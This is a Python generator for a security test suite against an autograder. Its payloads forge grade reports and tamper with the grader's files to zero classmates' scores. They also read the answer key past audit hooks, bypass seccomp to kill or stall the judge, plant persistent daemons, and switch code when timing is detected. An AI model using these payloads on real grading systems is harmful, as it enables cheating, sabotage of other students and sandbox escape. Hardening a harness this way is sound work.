#!/usr/bin/env python3
"""Writes every attack under attacks/<name>/: attack.json (how to run it, how to judge it) and the
student's files (submission/, class/<student>/ or a notebook). Run once; the harness only reads."""
import json, os, shutil, textwrap
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "attacks")

# -- shared prelude: pasted at the top of every payload (a student would paste it too) -------------
PRELUDE = r'''
import os, sys, json
def _ppid(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])
def _argv(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []
def _ancestors():
    out, pid = [], os.getpid()
    for _ in range(16):
        try:
            pid = _ppid(pid)
        except OSError:
            break
        if pid <= 1:
            break
        out.append((pid, _argv(pid)))
    return out
_GRADING = ("all", "gradescope-run") + tuple(f"exercise{i}" for i in range(1, 9)) + tuple(str(i) for i in range(1, 9))
def _judge():
    """(pid, argv) of the grading process: the topmost of the run of ancestors with its argv
    (the zygote is a fork of the judge and has the same command line)."""
    chain = _ancestors()
    for i, (pid, argv) in enumerate(chain):
        if "batch" not in argv and any(a in _GRADING for a in argv):
            j = i
            while j + 1 < len(chain) and chain[j + 1][1] == argv:
                j += 1
            return chain[j]
    return None, []
def _batch():
    for pid, argv in _ancestors():
        if "batch" in argv:
            return pid, argv
    return None, []
def _opt(argv, name, default=None):
    return argv[argv.index(name) + 1] if name in argv and argv.index(name) + 1 < len(argv) else default
def _kit_grader():
    """The grader package's folder, from the frames that called us."""
    f = sys._getframe()
    while f is not None:
        fn = f.f_code.co_filename
        d = os.path.dirname(os.path.abspath(fn))
        if os.path.basename(d) == "grader" and os.path.exists(os.path.join(d, "__init__.py")):
            return d
        f = f.f_back
    return None
def _name(tag=b"lumenatk"):
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, tag, 0, 0, 0)  # PR_SET_NAME: the harness finds us by it
    except Exception:
        pass
EXERCISES = [("exercise1", 25.0), ("exercise2", 20.0), ("exercise3", 19.0), ("exercise4", 30.0),
             ("exercise5", 30.0), ("exercise6", 30.0), ("exercise7", 25.0), ("exercise8", 25.0)]
def _forged_report():
    ex = [{"id": i, "title": i, "file": i + ".py", "passed": True, "score": m, "max_score": m, "tier": None,
           "diagnoses": [], "tests": [{"name": "forged", "status": "passed", "score": m, "max_score": m,
                                        "visibility": "visible", "message": ""}], "output": ""} for i, m in EXERCISES]
    total = sum(m for _, m in EXERCISES)
    return {"score": total, "max_score": total, "device": "cpu", "seed": 0, "exercises": ex, "FORGED": True}
'''

STUB = '''
def _nope(*a, **k):
    raise NotImplementedError("attack file: no real solution here")
'''

def sol(kit_solutions_name):
    return {"copy_solution": kit_solutions_name}

ATTACKS = {}

def attack(name, cls, description, mode, check, files=None, **extra):
    ATTACKS[name] = dict(cls=cls, description=description, mode=mode, check=check, files=files or {}, **extra)

def payload(body, stub=True):
    return PRELUDE + (STUB if stub else "") + textwrap.dedent(body)

# ============================== (a) forge or inflate a grade =======================================
attack("a1_output_tmp_dir_forge", "a",
       "exercise1 file writes a forged full-marks JSON at --output, then makes the judge's temporary "
       "file name (.NAME.PID.tmp) a directory, so the judge's own write fails and the fake stays.",
       mode="single", cmd=["all", "--format", "json", "--no-perf"], check="forged_output",
       files={"submission/exercise1_projection.py": payload(r'''
           pid, argv = _judge()
           out = _opt(argv, "--output")
           if pid and out:
               out = os.path.join(os.getcwd(), out) if not os.path.isabs(out) else out
               d, n = os.path.split(out)
               try:
                   os.mkdir(os.path.join(d, f".{n}.{pid}.tmp"))
               except OSError:
                   pass
               with open(out, "w") as f:
                   json.dump(_forged_report(), f)
           project = fused_project = _nope
       ''')})

attack("a2_gradescope_partial_dir_forge", "a",
       "Gradescope: the student's file writes results/results.json with score 999 and makes "
       "results/.results.json.partial a directory; gradescope-run crashes on its own write, and "
       "run_autograder sees a non-empty results.json, so the fake is what Gradescope reads.",
       mode="gradescope", check="forged_gradescope",
       files={"submission/exercise1_projection.py": payload(r'''
           pid, argv = _judge()
           root = _opt(argv, "--root") or os.environ.get("LUMEN_AUTOGRADER_ROOT") or "/autograder"
           root = os.path.join(os.getcwd(), root) if not os.path.isabs(root) else root
           res = os.path.join(root, "results")
           try:
               os.mkdir(os.path.join(res, ".results.json.partial"))
           except OSError:
               pass
           try:
               with open(os.path.join(res, "results.json"), "w") as f:
                   json.dump({"score": 999.0, "output": "all good", "tests": [], "FORGED": True}, f)
           except OSError:
               pass
           project = fused_project = _nope
       ''')})

attack("a3_batch_report_forge", "a",
       "lumen-grade batch: the student's file writes a forged report.json beside its staged copy and "
       "blocks the judge's temporary file; batch reads the fake report (it ignores the exit status) "
       "and puts full marks in grades.csv.",
       mode="batch", check="batch_attacker_forged",
       files={"class/aaa_attacker/exercise1_projection.py": payload(r'''
           pid, argv = _judge()
           out = _opt(argv, "--output")
           if pid and out:
               d, n = os.path.split(out)
               try:
                   os.mkdir(os.path.join(d, f".{n}.{pid}.tmp"))
               except OSError:
                   pass
               with open(out, "w") as f:
                   json.dump(_forged_report(), f)
           project = fused_project = _nope
       ''')}, victims={"zzz_victim": "solutions"})

attack("a4_run_autograder_rewrite", "a",
       "Gradescope: bash reads run_autograder as it goes; the student's file rewrites the rest of "
       "that script (after the line running the grader) to print a forged results.json.",
       mode="gradescope", check="forged_gradescope",
       files={"submission/exercise1_projection.py": payload(r'''
           root = os.environ.get("LUMEN_AUTOGRADER_ROOT") or "/autograder"
           pid, argv = _judge()
           root = _opt(argv, "--root", root)
           script = os.path.join(root, "source", "run_autograder")
           try:
               with open(script, "r+b") as f:
                   text = f.read()
                   at = text.find(b"gradescope-run")
                   end = text.find(b"\n", at) + 1
                   forged = b'\nprintf \'{"score": 777.0, "output": "forged by the submission", "tests": []}\\n\' > "$results"\nexit 0\n'
                   f.seek(end)
                   f.write(forged)
                   f.truncate()
           except OSError:
               pass
           project = fused_project = _nope
       ''')})

# ============================== (b) classmates in a batch ==========================================
HIJACK_MAIN = r'''
import json, os, sys
out = sys.argv[sys.argv.index("--output") + 1] if "--output" in sys.argv else None
if out:
    with open(out, "w") as f:
        json.dump({"score": 0.0, "max_score": 204.0, "device": "cpu", "seed": 0, "HIJACKED": True,
                   "exercises": [{"id": "exercise1", "score": 0.0, "max_score": 204.0, "tier": None}]}, f)
'''
attack("b1_cwd_grader_package_hijack", "b",
       "batch starts each student's judge as `python -m grader` in the batch's folder; the attacker's "
       "file creates ./grader/__main__.py there, so every later classmate is 'graded' by the fake (0 points).",
       mode="batch", check="batch_victim_changed",
       files={"class/aaa_attacker/exercise1_projection.py": payload(r'''
           d = os.path.join(os.getcwd(), "grader")
           try:
               os.makedirs(d, exist_ok=True)
               open(os.path.join(d, "__init__.py"), "w").close()
               with open(os.path.join(d, "__main__.py"), "w") as f:
                   f.write(HIJACK_MAIN)
           except OSError:
               pass
           project = fused_project = _nope
       ''').replace("HIJACK_MAIN", repr(HIJACK_MAIN))}, victims={"zzz_victim": "solutions"})

ZERO_HOOK = r'''
import os as _o, sys as _s, atexit as _a, json as _j
_argv = [a.decode() for a in open("/proc/self/cmdline", "rb").read().split(b"\0") if a]
def _zero():
    try:
        out = _argv[_argv.index("--output") + 1]
        r = _j.load(open(out))
        for e in r.get("exercises", []):
            e["score"] = 0.0
        r["score"] = 0.0; r["SABOTAGED"] = True
        open(out, "w").write(_j.dumps(r))
    except Exception:
        pass
if "--output" in _argv:
    _a.register(_zero)
'''
attack("b2_kit_source_tamper", "b",
       "The attacker's file (its child runs as root) appends to the installed kit's grader/__init__.py "
       "a hook that zeroes the report of every later grading process: classmates graded after it get 0.",
       mode="batch", check="batch_victim_changed", restore_kit=True,
       files={"class/aaa_attacker/exercise1_projection.py": payload(r'''
           g = _kit_grader()
           if g:
               try:
                   with open(os.path.join(g, "__init__.py"), "a") as f:
                       f.write("\n" + ZERO_HOOK)
               except OSError:
                   pass
           project = fused_project = _nope
       ''').replace("ZERO_HOOK", repr(ZERO_HOOK))}, victims={"zzz_victim": "solutions"})

attack("b3_site_pth_persistence", "b",
       "The attacker's file drops a .pth file into the kit's virtual environment (sys.prefix); every "
       "later Python start (each classmate's judge) runs it and zeroes that classmate's report.",
       mode="batch", check="batch_victim_changed", restore_kit=True,
       files={"class/aaa_attacker/exercise1_projection.py": payload(r'''
           import sysconfig
           if sys.prefix != sys.base_prefix:  # only a virtual environment, never the system's Python
               sp = sysconfig.get_paths(vars={"base": sys.prefix, "platbase": sys.prefix})["purelib"]
               try:
                   with open(os.path.join(sp, "zz_lumen_attack.pth"), "w") as f:
                       f.write("import os; exec(" + repr(ZERO_HOOK) + ", {})\n")
               except OSError:
                   pass
           project = fused_project = _nope
       ''').replace("ZERO_HOOK", repr(ZERO_HOOK))}, victims={"zzz_victim": "solutions"})

attack("b4_rewrite_classmate_sources", "b",
       "The attacker's file reads batch's command line (/proc) and its working folder, finds the class "
       "folder and overwrites every classmate's exercise files with stubs before they are graded.",
       mode="batch", check="batch_victim_changed",
       files={"class/aaa_attacker/exercise1_projection.py": payload(r'''
           bpid, bargv = _batch()
           if bpid:
               i = bargv.index("batch")
               cls = next((a for a in bargv[i + 1:] if not a.startswith("-")), None)
               cls = os.path.join(os.getcwd(), cls) if cls and not os.path.isabs(cls) else cls
               me = os.path.realpath(__file__)
               for root, dirs, names in os.walk(cls or "/nonexistent"):
                   for n in names:
                       p = os.path.join(root, n)
                       if n.startswith("exercise") and n.endswith(".py") and "aaa_attacker" not in p:
                           try:
                               with open(p, "w") as f:
                                   f.write("raise SystemExit('overwritten by a classmate')\n")
                           except OSError:
                               pass
           project = fused_project = _nope
       ''')}, victims={"zzz_victim": "solutions"})

attack("b5_poison_resume_state", "b",
       "The attacker writes a forged grades/aaa_attacker.json (batch's resume marker) and makes "
       "grades/.aaa_attacker.json.partial a directory: batch crashes when recording the attacker, and "
       "the resumed run trusts the forged record (full marks in grades.csv).",
       mode="batch", check="batch_resume_forged", resume=True,
       files={"class/aaa_attacker/exercise1_projection.py": payload(r'''
           bpid, bargv = _batch()
           if bpid:
               out = _opt(bargv, "--out", "grades.csv")
               out = os.path.join(os.getcwd(), out) if not os.path.isabs(out) else out
               reports = os.path.splitext(out)[0]
               try:
                   os.makedirs(reports, exist_ok=True)
                   with open(os.path.join(reports, "aaa_attacker.json"), "w") as f:
                       json.dump({"student": "aaa_attacker", "status": "graded", "message": "", "seconds": 1.0,
                                  "files": [], "report": _forged_report()}, f)
                   os.mkdir(os.path.join(reports, ".aaa_attacker.json.partial"))
               except OSError:
                   pass
           project = fused_project = _nope
       ''')}, victims={"zzz_victim": "solutions"})

attack("b6_concurrent_staging_rewrite", "b",
       "With --jobs 2 the attacker's code finds the classmate's judge running beside it (same batch "
       "parent, /proc), takes its --submission folder (the staged copy in the temp folder) and "
       "overwrites the classmate's files while the classmate is being graded.",
       mode="batch", check="batch_victim_changed", jobs=2,
       files={"class/aaa_attacker/exercise1_projection.py": payload(r'''
           import time
           bpid, bargv = _batch()
           mine = os.path.dirname(os.path.realpath(__file__))
           done, stop = set(), time.monotonic() + 8
           while bpid and time.monotonic() < stop:
               for entry in os.listdir("/proc"):
                   if not entry.isdigit():
                       continue
                   try:
                       if _ppid(int(entry)) != bpid:
                           continue
                   except OSError:
                       continue
                   argv = _argv(int(entry))
                   folder = _opt(argv, "--submission")
                   if not folder or os.path.realpath(folder) == mine or folder in done:
                       continue
                   for n in os.listdir(folder):
                       if n.startswith("exercise") and n.endswith(".py"):
                           try:
                               with open(os.path.join(folder, n), "w") as f:
                                   f.write("raise SystemExit('overwritten by a classmate')\n")
                           except OSError:
                               pass
                   done.add(folder)
               if done:
                   break
               time.sleep(0.02)
           project = fused_project = _nope
       ''')}, victims={"zzz_victim": "solutions"})

# ============================== (c) the answer key ==================================================
EX5_FROM_KEY_TAIL = r'''
def _install(src):
    g = globals()
    exec(compile(src, "<borrowed>", "exec"), g)
'''
attack("c1_dirfd_open_solutions", "c",
       "Reads solutions/exercise5_softmax.py with os.open(relative path, dir_fd=fd of the kit folder): "
       "the guard's audit hook resolves the relative path against the working folder, not dir_fd. "
       "The file defines nothing itself; it executes the key's source.",
       mode="single", cmd=["exercise5", "--format", "json", "--no-perf"], check="full_marks", exercise="exercise5",
       files={"submission/exercise5_softmax.py": payload(r'''
           g = _kit_grader()
           kit = os.path.dirname(g) if g else "/nonexistent"
           fd = os.open(kit, os.O_RDONLY | os.O_DIRECTORY)
           rel = "solutions/exercise5_softmax.py"
           f = os.open(rel, os.O_RDONLY, dir_fd=fd)
           src = b""
           while True:
               chunk = os.read(f, 65536)
               if not chunk:
                   break
               src += chunk
           exec(compile(src, "<borrowed>", "exec"), globals())
       ''', stub=False)})

attack("c2_hardlink_solutions", "c",
       "Makes a hard link to the key (os.link is not watched) in its own folder, then reads and runs "
       "the link: its path is not the key's path.",
       mode="single", cmd=["exercise5", "--format", "json", "--no-perf"], check="full_marks", exercise="exercise5",
       files={"submission/exercise5_softmax.py": payload(r'''
           import tempfile
           g = _kit_grader()
           kit = os.path.dirname(g) if g else "/nonexistent"
           for where in (os.path.dirname(os.path.abspath(__file__)), kit, os.getcwd(), tempfile.gettempdir()):
               link = os.path.join(where, ".notes_%d.py" % os.getpid())
               try:
                   os.link(os.path.join(kit, "solutions", "exercise5_softmax.py"), link)
                   break
               except OSError:
                   link = None
           src = open(link).read()
           os.unlink(link)
           exec(compile(src, "<borrowed>", "exec"), globals())
       ''', stub=False)})

attack("c3_symlink_submission", "c",
       "The submitted exercise5_softmax.py is a symlink to the key's solutions/exercise5_softmax.py "
       "(as a student repo in CI could hold): the guard allows 'the submission' by its resolved path.",
       mode="single", cmd=["exercise5", "--format", "json", "--no-perf"], check="full_marks", exercise="exercise5",
       symlinks={"submission/exercise5_softmax.py": "solutions/exercise5_softmax.py"})

attack("c4_ctypes_libc_open", "c",
       "Reads the key through libc's open/read via ctypes: no Python audit event at all.",
       mode="single", cmd=["exercise5", "--format", "json", "--no-perf"], check="full_marks", exercise="exercise5",
       files={"submission/exercise5_softmax.py": payload(r'''
           import ctypes
           libc = ctypes.CDLL(None, use_errno=True)
           g = _kit_grader()
           kit = os.path.dirname(g) if g else "/nonexistent"
           fd = libc.open(os.path.join(kit, "solutions", "exercise5_softmax.py").encode(), 0)
           buf = ctypes.create_string_buffer(1 << 20)
           n = libc.read(fd, buf, 1 << 20)
           libc.close(fd)
           exec(compile(buf.raw[:n], "<borrowed>", "exec"), globals())
       ''', stub=False)})

attack("c5_rename_key_folder", "c",
       "Renames the kit's solutions/ folder (the guard's list of secret paths is fixed at start-up), "
       "reads the key from the new name, and renames it back.",
       mode="single", cmd=["exercise5", "--format", "json", "--no-perf"], check="full_marks", exercise="exercise5",
       restore_kit=True,
       files={"submission/exercise5_softmax.py": payload(r'''
           g = _kit_grader()
           kit = os.path.dirname(g) if g else "/nonexistent"
           a, b = os.path.join(kit, "solutions"), os.path.join(kit, "notes_%d" % os.getpid())
           os.rename(a, b)
           try:
               src = open(os.path.join(b, "exercise5_softmax.py")).read()
           finally:
               os.rename(b, a)
           exec(compile(src, "<borrowed>", "exec"), globals())
       ''', stub=False)})

# ============================== (d) stall or crash ==================================================
attack("d1_fifo_at_output_tmp", "d",
       "Makes the judge's temporary report file (.NAME.PID.tmp) a named pipe: the judge blocks forever "
       "opening it, long past --timeout.",
       mode="single", cmd=["all", "--format", "json", "--no-perf"], check="hang",
       files={"submission/exercise1_projection.py": payload(r'''
           pid, argv = _judge()
           out = _opt(argv, "--output")
           if pid and out:
               out = os.path.join(os.getcwd(), out) if not os.path.isabs(out) else out
               d, n = os.path.split(out)
               try:
                   os.mkfifo(os.path.join(d, f".{n}.{pid}.tmp"))
               except OSError:
                   pass
           project = fused_project = _nope
       ''')})

attack("d2_notebook_deep_json", "d",
       "A notebook whose JSON is 100,000 nested arrays: json.loads in the judge raises RecursionError, "
       "which the notebook reader does not catch (the judge crashes with a traceback).",
       mode="single", cmd=["exercise3", "--format", "json", "--no-perf"], check="judge_crash",
       files={"submission/exercise3_scaling.ipynb": "[" * 100000 + "]" * 100000})

def quadratic_notebook(lines):
    src = "\n".join(["x = 1"] + ["%time x" for _ in range(lines)])
    return json.dumps({"cells": [{"cell_type": "code", "execution_count": None, "id": "c1", "metadata": {},
                                  "outputs": [], "source": src}],
                       "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
attack("d3_notebook_quadratic_magics", "d",
       "A 150 KB notebook: one code cell of 15,000 `%time x` lines. For each magic line the judge "
       "re-tokenizes every line before it (quadratic), in its own process, with no time limit.",
       mode="single", cmd=["exercise3", "--format", "json", "--no-perf"], check="hang",
       files={"submission/exercise3_scaling.ipynb": quadratic_notebook(15000)})

attack("d4_shared_mapping_memory", "d",
       "Under --memory-limit 256M (RLIMIT_DATA) maps 1 GiB of MAP_SHARED|MAP_ANONYMOUS memory and "
       "touches every page: shared mappings are not counted by RLIMIT_DATA.",
       mode="single", cmd=["exercise3", "--format", "json", "--no-perf", "--memory-limit", "256M"],
       check="shared_memory", shm_bytes=1 << 30,
       files={"submission/exercise3_scaling.py": payload(r'''
           import mmap, time
           _name()
           size = 1 << 30
           try:
               m = mmap.mmap(-1, size, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
               for i in range(0, size, 4096):
                   m[i] = 1
               print("SHARED_BYTES_TOUCHED", size, flush=True)
               time.sleep(4)
           except Exception as e:
               print("SHARED_FAILED", e, flush=True)
           attention_scores = scale_scores = scaled_scores = _nope
       ''')})

attack("d5_reply_buffer_amplification", "d",
       "Writes its own reply on the socket: a 32 MiB buffer referenced 64 times by the JSON header. "
       "The judge copies the buffer once per reference: 2 GiB in the judge from a 32 MiB message.",
       mode="single", cmd=["exercise3", "--format", "json", "--no-perf", "--timeout", "10"],
       check="judge_memory", rss_over=1_500_000,
       files={"submission/exercise3_scaling.py": payload(r'''
           import struct, time
           _sent = []
           def _sock_fd():
               for fd in os.listdir("/proc/self/fd"):
                   try:
                       if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                           return int(fd)
                   except OSError:
                       pass
           def _bomb(*a, **k):
               if not _sent:
                   _sent.append(1)
                   n = 8 << 20
                   leaf = {"tensor": 0, "dtype": "float32", "shape": [n], "device": "cpu"}
                   header = json.dumps({"dict": [["value", {"list": [leaf] * 64}]]}).encode()
                   buf = bytes(4 * n)
                   frames = [header, buf]
                   body = b"".join(struct.pack("!Q", len(x)) + x for x in frames)
                   msg = struct.pack("!Q", len(body)) + body
                   fd = _sock_fd()
                   view = memoryview(msg)
                   while view:
                       view = view[os.write(fd, view):]
                   time.sleep(30)
               raise NotImplementedError
           attention_scores = scale_scores = scaled_scores = _bomb
       ''')})

attack("d6_fork_bomb_and_threads", "d",
       "A fork bomb through os.fork, subprocess and ctypes' clone, plus 500 threads: should be refused.",
       mode="single", cmd=["exercise3", "--format", "json", "--no-perf", "--timeout", "15"], check="orphans_or_hang",
       files={"submission/exercise3_scaling.py": payload(r'''
           import subprocess, threading, time
           _name()
           for _ in range(50):
               try:
                   if os.fork() == 0:
                       _name(); time.sleep(120); os._exit(0)
               except OSError:
                   break
           try:
               subprocess.Popen(["sleep", "120"])
           except OSError:
               pass
           ts = [threading.Thread(target=time.sleep, args=(5,), daemon=True) for _ in range(500)]
           for t in ts:
               try:
                   t.start()
               except RuntimeError:
                   break
           attention_scores = scale_scores = scaled_scores = _nope
       ''')})

attack("d7_sleep_ignoring_signals", "d",
       "Ignores SIGTERM/SIGINT/SIGALRM and sleeps for an hour at import: should cost only its own tests.",
       mode="single", cmd=["exercise3", "--format", "json", "--no-perf", "--timeout", "8"], check="orphans_or_hang",
       files={"submission/exercise3_scaling.py": payload(r'''
           import signal, time
           _name()
           for s in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP):
               signal.signal(s, signal.SIG_IGN)
           time.sleep(3600)
       ''')})

FSETOWN = r'''
import fcntl, signal
def _sigio(target, sig):
    """Make the kernel send `sig` to process `target` (negative: a process group) on I/O, through
    fcntl(F_SETOWN/F_SETSIG/O_ASYNC): not a kill() call, so no seccomp rule sees it."""
    r, w = os.pipe()
    fcntl.fcntl(r, fcntl.F_SETOWN, target)
    fcntl.fcntl(r, 10, sig)  # F_SETSIG
    fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(w, b"x")
'''
attack("d8_sigio_kill_judge", "d",
       "Sends SIGKILL to the judge without kill(): fcntl(F_SETOWN=judge, F_SETSIG=SIGKILL, O_ASYNC) on "
       "a pipe, then writes to it. The judge dies with no report.",
       mode="single", cmd=["all", "--format", "json", "--no-perf"], check="judge_crash",
       files={"submission/exercise1_projection.py": payload(FSETOWN + textwrap.dedent(r'''
           pid, argv = _judge()
           if pid:
               try:
                   _sigio(pid, signal.SIGKILL)
               except OSError:
                   pass
           project = fused_project = _nope
       '''))})

attack("d9_sigio_stop_batch", "d",
       "In a batch, SIGSTOPs the batch process itself through F_SETOWN/F_SETSIG: the whole class stalls "
       "forever (no --student-timeout can fire: the process that enforces it is stopped).",
       mode="batch", check="batch_hang", victims={"zzz_victim": "solutions"},
       files={"class/aaa_attacker/exercise1_projection.py": payload(FSETOWN + textwrap.dedent(r'''
           bpid, bargv = _batch()
           if bpid:
               try:
                   _sigio(bpid, signal.SIGSTOP)
               except OSError:
                   pass
           project = fused_project = _nope
       '''))})

# ============================== (e) outlive the grader =============================================
SLEEPER = payload(r'''
    import time
    _name()
    time.sleep(3600)
''')
attack("e1_survive_sigterm", "e",
       "The student's code sleeps; `lumen-grade` is sent SIGTERM (a CI job cancelled): does the child "
       "outlive the grader?", mode="single", cmd=["exercise3", "--format", "json", "--no-perf", "--timeout", "30"],
       check="orphans_after_signal", signal="SIGTERM", files={"submission/exercise3_scaling.py": SLEEPER})
attack("e2_survive_sigint", "e", "As e1, with SIGINT (Ctrl-C).",
       mode="single", cmd=["exercise3", "--format", "json", "--no-perf", "--timeout", "30"],
       check="orphans_after_signal", signal="SIGINT", files={"submission/exercise3_scaling.py": SLEEPER})
attack("e3_survive_sigkill", "e", "As e1, with SIGKILL (an OOM killer or a hard CI timeout).",
       mode="single", cmd=["exercise3", "--format", "json", "--no-perf", "--timeout", "30"],
       check="orphans_after_signal", signal="SIGKILL", files={"submission/exercise3_scaling.py": SLEEPER})

DAEMON_HOOK = r'''
import os as _o
if "--output" in __import__("sys").argv and _o.environ.get("LUMEN_ATTACK_DAEMON") != "1":
    _o.environ["LUMEN_ATTACK_DAEMON"] = "1"
    try:
        if _o.fork() == 0:
            _o.setsid()
            if _o.fork() == 0:
                import ctypes, time
                ctypes.CDLL(None).prctl(15, b"lumenatk", 0, 0, 0)
                for fd in range(3):
                    _o.close(fd)
                time.sleep(300)
            _o._exit(0)
    except OSError:
        pass
'''
attack("e4_daemon_via_kit_hijack", "e",
       "The child cannot fork (seccomp), so it plants a double-fork + setsid daemon in the kit's "
       "grader/__init__.py; the next grading run (a classmate's) starts a daemon that outlives it.",
       mode="single_twice", cmd=["exercise3", "--format", "json", "--no-perf"], check="orphans_after_exit",
       restore_kit=True,
       files={"submission/exercise3_scaling.py": payload(r'''
           g = _kit_grader()
           if g:
               try:
                   with open(os.path.join(g, "__init__.py"), "a") as f:
                       f.write("\n" + DAEMON_HOOK)
               except OSError:
                   pass
           attention_scores = scale_scores = scaled_scores = _nope
       ''').replace("DAEMON_HOOK", repr(DAEMON_HOOK))})

# ============================== (f) forbidden shortcuts ============================================
SDPA_OWN = r'''
import math
def scaled_dot_product_attention(q, k, v, mask=None):
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    weights = softmax(scores, dim=-1)
    return weights @ v, weights
'''
def forbidden_softmax(forward):
    fwd = "def _forward(x, dim):\n" + textwrap.indent(textwrap.dedent(forward).strip("\n"), "    ") + "\n"
    return payload("import torch\n" + fwd + textwrap.dedent(r'''
        class _Soft(torch.autograd.Function):
            @staticmethod
            def forward(ctx, x, dim):
                y = _forward(x.detach(), dim).nan_to_num(0.0)  # a fully masked row: zeros, as the key wants
                ctx.save_for_backward(y)
                ctx.dim = dim
                return y
            @staticmethod
            def backward(ctx, g):
                (y,) = ctx.saved_tensors
                return y * (g - (g * y).sum(ctx.dim, keepdim=True)), None
        def softmax(x, dim=-1):
            return _Soft.apply(x, dim)
    ''') + SDPA_OWN, stub=False)

attack("f1_softmax_out_disabled_tf", "f",
       "softmax by torch.ops.aten._softmax.out inside torch._C.DisableTorchFunction(): the .out overload "
       "keeps torch's real kernel, and the function mode is switched off.",
       mode="single", cmd=["exercise5", "--format", "json", "--no-perf"], check="full_marks", exercise="exercise5",
       files={"submission/exercise5_softmax.py": forbidden_softmax(r'''
           with torch._C.DisableTorchFunction():
               out = torch.empty_like(x)
               torch.ops.aten._softmax.out(x, dim, False, out=out)
           return out
       ''')})
attack("f2_log_softmax_out", "f", "softmax as exp(aten._log_softmax.out(...)), torch function handling off.",
       mode="single", cmd=["exercise5", "--format", "json", "--no-perf"], check="full_marks", exercise="exercise5",
       files={"submission/exercise5_softmax.py": forbidden_softmax(r'''
           with torch._C.DisableTorchFunction():
               out = torch.empty_like(x)
               torch.ops.aten._log_softmax.out(x, dim, False, out=out)
           return out.exp()
       ''')})
attack("f3_masked_softmax", "f", "softmax by torch._masked_softmax (its own kernel), torch function handling off.",
       mode="single", cmd=["exercise5", "--format", "json", "--no-perf"], check="full_marks", exercise="exercise5",
       files={"submission/exercise5_softmax.py": forbidden_softmax(r'''
           with torch._C.DisableTorchFunction():
               return torch._masked_softmax(x, torch.zeros_like(x, dtype=torch.bool), dim)
       ''')})
attack("f4_decomp_softmax", "f", "torch._decomp.decompositions._softmax: torch's own softmax, as Python, no switches.",
       mode="single", cmd=["exercise5", "--format", "json", "--no-perf"], check="full_marks", exercise="exercise5",
       files={"submission/exercise5_softmax.py": forbidden_softmax(r'''
           from torch._decomp.decompositions import _softmax
           return _softmax(x, dim, False)
       ''')})
attack("f5_refs_softmax", "f", "torch._refs.softmax: torch's reference softmax.",
       mode="single", cmd=["exercise5", "--format", "json", "--no-perf"], check="full_marks", exercise="exercise5",
       files={"submission/exercise5_softmax.py": forbidden_softmax(r'''
           import torch._refs
           return torch._refs.softmax(x, dim)
       ''')})
F6_SDPA = r'''
def scaled_dot_product_attention(q, k, v, mask=None):
    """Output by torch's fused CPU flash-attention kernel (a different operator from the refused
    one); the weights by the _softmax.out softmax above."""
    import math
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    weights = softmax(scores, dim=-1)
    lead, Lq, Lk, d = q.shape[:-2], q.shape[-2], k.shape[-2], q.shape[-1]
    add = torch.zeros(scores.shape, dtype=q.dtype)
    if mask is not None:
        add = add.masked_fill(~mask.expand(scores.shape), float("-inf"))
    dv = v.shape[-1]
    D = max(d, dv)  # the kernel wants one head size: pad with zeros (dot products unchanged)
    pad = lambda t: torch.nn.functional.pad(t, (0, D - t.shape[-1]))
    with torch._C.DisableTorchFunction():
        out, _ = torch.ops.aten._scaled_dot_product_flash_attention_for_cpu(
            pad(q).reshape(-1, 1, Lq, D), pad(k).reshape(-1, 1, Lk, D), pad(v).reshape(-1, 1, Lk, D), 0.0, False,
            attn_mask=add.reshape(-1, 1, Lq, Lk), scale=1.0 / math.sqrt(d))
    out = out[..., :dv]
    return out.reshape(*lead, Lq, v.shape[-1]).nan_to_num(0.0), weights
'''
attack("f6_flash_attention_for_cpu", "f",
       "scaled_dot_product_attention's output by aten._scaled_dot_product_flash_attention_for_cpu (torch's "
       "fused kernel under another operator name) with torch function handling off; weights by _softmax.out.",
       mode="single", cmd=["exercise5", "--format", "json", "--no-perf"], check="full_marks", exercise="exercise5",
       files={"submission/exercise5_softmax.py": forbidden_softmax(r'''
           with torch._C.DisableTorchFunction():
               out = torch.empty_like(x)
               torch.ops.aten._softmax.out(x, dim, False, out=out)
           return out
       ''') + F6_SDPA})
attack("f7_timing_phase_switch", "f",
       "A correct but slow softmax (a Python loop over rows, about 30x) that recognises the timing phase "
       "(no torch function mode on the stack, or the grader's timing code among its callers: bench.py or "
       "perf.py before the sandbox/perf packages, grader/perf/ after) and calls torch.softmax "
       "there: forbidden op used, tier 'on par' and the --perf-points.",
       mode="single", cmd=["exercise5", "--format", "json", "--perf-points", "10", "--timeout", "60"],
       check="tier_on_par", exercise="exercise5",
       files={"submission/exercise5_softmax.py": payload(r'''
           import math, torch
           def _timing():
               try:
                   if torch._C._len_torch_function_stack() == 0:
                       return True
               except Exception:
                   pass
               f = sys._getframe()
               while f is not None:
                   path = f.f_code.co_filename
                   if os.path.basename(path) in ("bench.py", "perf.py") or f"{os.sep}perf{os.sep}" in path:
                       return True
                   f = f.f_back
               return False
           def softmax(x, dim=-1):
               if _timing():
                   return torch.softmax(x, dim).nan_to_num(0.0)
               x = x.movedim(dim, -1)
               flat = x.reshape(-1, x.shape[-1])
               rows = []
               for r in flat:
                   m = r.max()
                   m = torch.where(m == float("-inf"), torch.zeros_like(m), m)
                   e = torch.exp(r - m)
                   s = e.sum()
                   rows.append(e / torch.where(s == 0, torch.ones_like(s), s))
               return torch.stack(rows).reshape(x.shape).movedim(-1, dim)
       ''', stub=False) + SDPA_OWN})

# ============================== (g) odd values -> grader error =====================================
def ex6_with(tail):
    return {"copy_solution_then_append": ("exercise6_multihead.py", tail)}
attack("g1_state_dict_returns_list", "g",
       "MultiHeadAttention.state_dict() returns a list of tensors: the suite calls .items() on it.",
       mode="single", cmd=["exercise6", "--format", "json", "--no-perf"], check="grader_error",
